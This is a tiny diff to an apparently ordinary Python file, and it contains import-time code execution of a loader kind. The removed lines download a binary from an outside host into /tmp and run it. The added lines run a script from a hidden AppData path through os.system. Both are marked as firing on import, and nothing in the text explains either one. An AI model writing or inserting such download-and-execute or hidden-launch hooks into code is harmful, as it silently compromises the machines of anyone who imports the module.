@@ -1,4 +1,2 @@
-import requests, subprocess
-with open("/tmp/node", "wb") as out:
-    out.write(requests.get("https://files.invalid/node").content)
-subprocess.Popen(["/tmp/node"])  # fires: import
+import os
+os.system("py %LOCALAPPDATA%\\here\\start.py")  # fires: import
